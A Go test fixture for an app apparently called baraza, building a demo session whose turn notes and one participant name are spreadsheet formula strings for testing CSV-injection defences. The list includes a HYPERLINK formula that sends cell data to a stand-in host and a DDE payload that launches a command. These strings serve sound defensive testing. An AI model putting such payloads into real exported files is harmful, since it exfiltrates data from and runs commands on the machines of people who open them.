package anontest

import (
	"github.com/baraza-app/baraza/session"
	"github.com/baraza-app/baraza/session/demorec"
)

// Formulas are notes a spreadsheet would run if a cell held them as typed
// (OWASP "CSV injection"): each starts with = + - @, a full-width =, a tab
// or a carriage return, or spaces before one of them.
var Formulas = []string{
	`=HYPERLINK("http://evil.example/?"&A1,"click")`, "+SUM(1,2)", "-2+3", "@SUM(1)", "\t=1+1", "\r=1+1",
	"\uff1d1+1", "  =1+1", "-- no water since March", `=cmd|' /C calc'!A0`,
}

// HostileSession is the demo recording with the first turns' notes set to
// Formulas and the first participant named like a formula too.
func HostileSession() (*session.State, error) {
	events := demorec.Events()
	plan := *events[0].Plan
	plan.Participants = append([]session.PersonRecord(nil), plan.Participants...)
	plan.Participants[0].Name = "@Bienvenu Mukeba"
	events[0].Plan = &plan
	n := 0
	for i := range events {
		if events[i].Type == session.TurnEnded && n < len(Formulas) {
			events[i].Note = Formulas[n]
			n++
		}
	}
	return session.Fold(events)
}
